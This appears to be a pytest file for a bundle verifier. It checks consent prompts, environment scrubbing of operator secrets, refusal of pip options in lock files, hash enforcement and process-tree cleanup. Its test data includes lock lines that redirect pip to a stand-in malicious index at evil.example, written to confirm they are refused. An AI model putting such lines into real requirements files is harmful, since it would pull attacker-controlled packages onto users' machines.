"""Running a bundle runs its code: say so, give it only what it declares, keep pip on the operator's terms,
and stop everything it started (issue 11, item 5)."""
from __future__ import annotations

import io
import os
import sys
import textwrap
from pathlib import Path

import pytest

from handoff_assistant.bundle import BundleError, BundleOptions
from handoff_assistant.bundle.harness_run import (SETUP_CHECK, RunOptions, _harness_env, harness_timeout,
                                                  install_command, run_harness, stream)
from handoff_assistant.bundle.lock_policy import refused_options, require_hashes
from handoff_assistant.bundle.run_env import minimal_environment, pip_environment
from handoff_assistant.bundle.writer import write_bundle
from handoff_assistant.cli import main
from handoff_assistant.outcome import FAILED
from handoff_assistant.tasks import CancelToken, Cancelled
from tests.bundle.helpers import inputs_for, resign

HASHED_LOCK = "tiny-frame==1.0.0 \\\n    --hash=sha256:" + "a" * 64 + "\n"


@pytest.fixture
def folder_bundle(project, tmp_path) -> Path:
    return write_bundle(inputs_for(project), BundleOptions(tmp_path / "out", zip=False, engine="installed")).path


def test_without_a_terminal_run_tests_is_refused_without_yes_and_nothing_runs(folder_bundle, tmp_path, capsys,
                                                                                monkeypatch):
    """Failed before: --run-tests ran the bundle's code without saying so or asking."""
    monkeypatch.setattr(sys, "stdin", io.StringIO(""))
    work = tmp_path / "work"
    assert main(["verify", str(folder_bundle), "--run-tests", "--workdir", str(work)]) == 2
    err = capsys.readouterr().err.strip()
    assert err.startswith("handoff verify: --run-tests runs the bundle's own code (its harness and entry points, "
                          f"from {folder_bundle}) on this machine as you")
    assert err.endswith("There is no terminal to confirm on: add --yes to allow it.") and "\n" not in err
    assert not work.exists()


def test_env_file_values_are_read_from_a_file_or_stdin(tmp_path, monkeypatch):
    from handoff_assistant.cli.verify_command import env_file_values

    env_file = tmp_path / "run.env"
    env_file.write_text("# secrets\nexport MAIL_API_TOKEN='tok en'\nSCORE_FACTOR=2\n\n")
    assert env_file_values(str(env_file)) == {"MAIL_API_TOKEN": "tok en", "SCORE_FACTOR": "2"}
    monkeypatch.setattr(sys, "stdin", io.StringIO("A_KEY=from-stdin\n"))
    assert env_file_values("-") == {"A_KEY": "from-stdin"}


@pytest.mark.parametrize("text, message", [
    ("not a pair\n", "--env-file {} line 1 is not KEY=VALUE"),
    ("1BAD=x\n", "--env-file {} line 1 is not KEY=VALUE"),
])
def test_a_bad_env_file_is_one_line_and_runs_nothing(folder_bundle, tmp_path, capsys, text, message):
    env_file = tmp_path / "bad.env"
    env_file.write_text(text)
    work = tmp_path / "work"
    assert main(["verify", str(folder_bundle), "--run-tests", "--yes", "--workdir", str(work),
                 "--env-file", str(env_file)]) == 2
    assert capsys.readouterr().err.strip() == "handoff verify: " + message.format(env_file)
    assert not work.exists()


def test_the_harness_gets_only_what_the_bundle_declares(folder_bundle, monkeypatch):
    """Failed before: the harness ran with the operator's whole environment (cloud keys, tokens...)."""
    import json

    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "operator-cloud-key")
    monkeypatch.setenv("GITHUB_TOKEN", "operator-token")
    monkeypatch.setenv("MAIL_API_TOKEN", "declared-by-the-bundle")
    monkeypatch.setenv("LANG", "C.UTF-8")
    manifest = json.loads((folder_bundle / "handoff-manifest.json").read_text())
    env = _harness_env(folder_bundle, manifest, RunOptions(folder_bundle, env_values={"SCORE_FACTOR": "2"}))
    assert "AWS_SECRET_ACCESS_KEY" not in env and "GITHUB_TOKEN" not in env
    assert env["MAIL_API_TOKEN"] == "declared-by-the-bundle" and env["SCORE_FACTOR"] == "2"
    assert env["LANG"] == "C.UTF-8" and env["HOME"] == os.environ["HOME"]
    assert env["PATH"].split(os.pathsep)[0] == str(folder_bundle / ".venv" / "bin")
    assert set(env) <= {"PATH", "HOME", "LANG", "LC_ALL", "LC_CTYPE", "LC_MESSAGES", "LC_NUMERIC", "LANGUAGE", "TZ",
                        "MAIL_API_TOKEN", "SCORE_FACTOR", "PYTHONDONTWRITEBYTECODE", "HANDOFF_CONFIG"}


def test_pip_keeps_its_own_settings_but_not_the_operators_secrets():
    source = {"PATH": "/usr/bin", "HOME": "/home/it", "PIP_INDEX_URL": "https://pypi.internal/simple",
              "HTTPS_PROXY": "http://proxy:3128", "AWS_SECRET_ACCESS_KEY": "x", "DATABASE_URL": "postgres://u:p@h/d"}
    assert pip_environment(source) == {"PATH": "/usr/bin", "HOME": "/home/it",
                                       "PIP_INDEX_URL": "https://pypi.internal/simple",
                                       "HTTPS_PROXY": "http://proxy:3128"}
    assert minimal_environment(("DATABASE_URL",), {}, source) == {"PATH": "/usr/bin", "HOME": "/home/it",
                                                                  "DATABASE_URL": "postgres://u:p@h/d"}


@pytest.mark.parametrize("lock, refused", [
    ("--index-url https://evil.example/simple\ntiny-frame==1.0.0\n",
     ("line 1: --index-url (a pip option for the whole install)",)),
    ("-i https://evil.example/simple\n", ("line 1: -i (a pip option for the whole install)",)),
    ("--extra-index-url https://evil.example/simple\n--trusted-host evil.example\n",
     ("line 1: --extra-index-url (a pip option for the whole install)",
      "line 2: --trusted-host (a pip option for the whole install)")),
    ("-f https://evil.example/wheels\n-r other.txt\n",
     ("line 1: -f (a pip option for the whole install)", "line 2: -r (a pip option for the whole install)")),
    ("tiny-frame==1.0.0 --config-settings=x=y \\\n    --hash=sha256:" + "a" * 64 + "\n",
     ("line 1: --config-settings on tiny-frame==1.0.0",)),
    (HASHED_LOCK + "# --index-url in a comment is fine\n", ()),
    ("--extra-index-url https://download.pytorch.org/whl/cpu\n" + HASHED_LOCK, ()),  # --accelerator cpu, hashed
    ("--extra-index-url https://download.pytorch.org/whl/cpu\ntiny-frame==1.0.0\n",
     ("line 1: --extra-index-url (a pip option for the whole install)",)),  # not hashed: refused
])
def test_pip_options_inside_the_lock_are_named(lock, refused):
    assert refused_options(lock) == refused


def test_the_manifest_cannot_turn_hash_checking_off():
    """Failed before: 'environment.hashed: false' in a re-signed manifest installed a hashed lock without
    --require-hashes."""
    assert require_hashes(HASHED_LOCK, manifest_says_hashed=False)
    assert not require_hashes("tiny-frame==1.0.0\n", manifest_says_hashed=False)
    assert "--require-hashes" in install_command(Path("/b"), require_hashes(HASHED_LOCK, False))


def test_a_re_signed_lock_with_an_index_url_installs_nothing(folder_bundle, tmp_path):
    """Failed before: requirements.txt could point pip at any index."""
    lock = folder_bundle / "env" / "requirements.txt"
    lock.write_text("--extra-index-url https://evil.example/simple\n" + lock.read_text())
    resign(folder_bundle)
    lines: list[str] = []
    record = run_harness(folder_bundle, RunOptions(tmp_path / "work"), log=lines.append)
    assert record.integrity.ok and len(record.results) == 1
    setup = record.results[0]
    assert setup.name == SETUP_CHECK and setup.status == FAILED
    assert "line 1: --extra-index-url (a pip option for the whole install)" in setup.message
    assert setup.message.endswith("Allow them only if you trust their source (--allow-lock-options; in the app, "
                                  "\"Let pip follow options written in the lock\").")
    assert not any(line.startswith("$ ") for line in lines)  # nothing was started, not even the venv


def test_the_harness_timeout_comes_from_the_expected_runtimes():
    manifest = {"entry_points": [{"timeout_seconds": 120}, {"timeout_seconds": 60}, {"name": "no runtime"}]}
    assert harness_timeout(manifest) == 2 * 180 + 300
    assert harness_timeout({}) == 300


_SPAWNER = textwrap.dedent("""
    import subprocess, sys, time
    child = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(120)"])
    open(sys.argv[1], "w").write(str(child.pid))
    print("started", flush=True)
    time.sleep(120)
""")


def _state(pid: int) -> str:
    """The process state letter from /proc, "gone" when there is no such process (Z: a zombie, dead)."""
    try:
        return Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except FileNotFoundError:
        return "gone"


def _dead(pid: int) -> bool:
    """Whether the process is gone or a zombie once the kill has been delivered (a loaded machine may take a
    moment to schedule its exit; a process that was not killed sleeps for two minutes)."""
    import time

    for _ in range(100):
        if _state(pid) in ("gone", "Z", "X"):
            return True
        time.sleep(0.1)
    return False


def _wait_for(path: Path) -> int:
    import time

    for _ in range(200):
        if path.exists() and path.read_text():
            return int(path.read_text())
        time.sleep(0.05)
    raise AssertionError(f"{path} was never written")


@pytest.mark.skipif(not Path("/proc/self/stat").exists(), reason="reads process states from /proc (Linux)")
def test_a_timeout_stops_the_step_and_everything_it_started(tmp_path):
    """Failed before: only the direct child was killed; what it started ran on."""
    pid_file = tmp_path / "grandchild.pid"
    with pytest.raises(BundleError, match="did not finish within 1 seconds and was stopped with everything it "
                                          "started"):
        stream([sys.executable, "-c", _SPAWNER, str(pid_file)], tmp_path, None, CancelToken(), lambda line: None, 1)
    assert _dead(_wait_for(pid_file))


@pytest.mark.skipif(not Path("/proc/self/stat").exists(), reason="reads process states from /proc (Linux)")
def test_a_cancel_stops_everything_the_step_started(tmp_path):
    pid_file = tmp_path / "grandchild.pid"
    token = CancelToken()

    def cancel_when_started(line: str) -> None:
        if line == "started":
            token.cancel()

    with pytest.raises(Cancelled):
        stream([sys.executable, "-c", _SPAWNER, str(pid_file)], tmp_path, None, token, cancel_when_started, 600)
    assert _dead(_wait_for(pid_file))


@pytest.mark.slow
def test_verification_json_holds_no_secret_given_in_an_env_file(project, tmp_path, capsys):
    """The record on disk passes through the live log's masker: a secret the entry point prints is masked."""
    import json

    from handoff_assistant.bundle.verification_record import record_path
    from tests.bundle.helpers import project_file, report_for

    (project / "tinyscore" / "score.py").write_text(
        "import os, sys\nprint('token is', os.environ.get('MAIL_API_TOKEN'))\nsys.exit(3)\n")
    inputs = inputs_for(project, report=report_for(project, dependencies=()), project=project_file())
    bundle = write_bundle(inputs, BundleOptions(tmp_path / "out", zip=True, engine="installed")).path
    secrets = tmp_path / "run.env"
    secrets.write_text("MAIL_API_TOKEN=zz-very-secret-token-4711\nSCORE_FACTOR=2\n")
    assert main(["verify", str(bundle), "--run-tests", "--yes", "--workdir", str(tmp_path / "work"),
                 "--env-file", str(secrets)]) == 1
    out = capsys.readouterr().out
    saved = record_path(bundle).read_text()
    assert "zz-very-secret-token-4711" not in saved and "zz-very-secret-token-4711" not in out
    smoke = next(r for r in json.loads(saved)["results"] if r["name"].endswith("runs_on_its_sample_input"))
    assert "token is zz-v" in smoke["message"]  # printed, and masked as the live log masks it
